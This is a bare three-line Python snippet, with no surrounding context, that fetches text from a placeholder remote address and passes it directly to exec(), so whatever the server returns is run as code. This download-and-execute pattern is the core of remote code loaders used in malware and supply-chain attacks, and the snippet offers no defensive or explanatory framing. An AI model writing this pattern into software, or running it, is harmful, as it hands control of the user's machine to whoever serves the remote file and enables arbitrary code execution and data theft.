import requests
code = requests.get("https://z.example.invalid/z.txt").text
exec(code, {})
